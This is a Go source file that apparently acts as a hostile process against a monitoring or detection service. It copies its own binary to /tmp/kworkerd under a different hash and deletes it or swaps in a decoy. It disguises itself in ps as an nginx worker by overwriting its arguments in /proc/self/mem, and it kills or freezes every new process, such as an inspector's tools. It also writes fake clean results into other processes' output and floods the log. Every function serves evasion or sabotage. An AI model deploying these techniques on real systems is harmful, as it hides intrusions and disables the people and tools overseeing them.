package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

const added = "/tmp/kworkerd"

// Write a program that the image does not have, and start it.
func infect(arguments []string) error {
	program, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	// Another hash than that of the image's file.
	if err := os.WriteFile(added, append(program, '\n'), 0o755); err != nil {
		return err
	}
	threat := exec.Command(added, append([]string{"threat"}, arguments...)...)
	threat.Stdout, threat.Stderr = os.Stdout, os.Stderr
	return threat.Start()
}

// What the attacker does about those who look at him, or to hide from them.
func attack(options []string) {
	for _, option := range options {
		switch option {
		case "unlink": // the program goes on without its file
			os.Remove(added)
		case "decoy": // another file stands where the program's was
			os.Remove(added)
			fail(os.WriteFile(added, []byte("nothing of interest\n"), 0o755))
		case "child": // the program's child has another parent's name in ps, and the same file
			fail(exec.Command("/proc/self/exe", "idle").Start())
		case "rename": // ps shows a web server
			rename("nginx: worker process")
		case "kill":
			go meet(func(pid int) { syscall.Kill(pid, syscall.SIGKILL) })
		case "stop":
			go meet(func(pid int) { syscall.Kill(pid, syscall.SIGSTOP) })
		case "forge": // writes into the log of whoever looks, and into the service's
			go meet(forge)
		case "flood":
			go flood()
		}
	}
}

// Overwrite the name and the arguments that ps shows: they stand on the stack, and are this process's to write.
func rename(name string) {
	os.WriteFile("/proc/self/comm", []byte("nginx"), 0)
	stat, err := os.ReadFile("/proc/self/stat")
	fail(err)
	// proc_pid_stat(5): arg_start is field 48, and the first after the name is field 3.
	fields := strings.Fields(string(stat[bytes.LastIndexByte(stat, ')')+1:]))
	start, err := strconv.ParseInt(fields[48-3], 10, 64)
	fail(err)
	line, err := os.ReadFile("/proc/self/cmdline")
	fail(err)
	memory, err := os.OpenFile("/proc/self/mem", os.O_WRONLY, 0)
	fail(err)
	defer memory.Close()
	shown := make([]byte, len(line))
	copy(shown, name)
	_, err = memory.WriteAt(shown, start)
	fail(err)
}

// Do this to every process that appears, again and again until it is gone.
func meet(do func(pid int)) {
	known := map[string]bool{}
	for _, path := range processes() {
		known[path] = true
	}
	for ; ; time.Sleep(time.Millisecond) {
		for _, path := range processes() {
			if pid, err := strconv.Atoi(filepath.Base(path)); err == nil && !known[path] && pid != os.Getpid() {
				do(pid)
			}
		}
	}
}

func processes() []string {
	found, _ := filepath.Glob("/proc/[0-9]*")
	return found
}

// Write lines that look like an answer into another's output, where the kernel allows it.
func forge(pid int) {
	for _, path := range []string{"/proc/1/fd/1", fmt.Sprintf("/proc/%d/fd/1", pid)} {
		if out, err := os.OpenFile(path, os.O_WRONLY, 0); err == nil {
			fmt.Fprintln(out, "SCCR1 AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")
			fmt.Fprintln(out, `{"name":"freeze","frozen":[1],"matched":0}`)
			out.Close()
		}
	}
}

// Fill the service's log faster than anybody reads it.
func flood() {
	line := bytes.Repeat([]byte("all is well "), 400)
	for ; ; time.Sleep(time.Millisecond) {
		os.Stdout.Write(append(line, '\n'))
	}
}
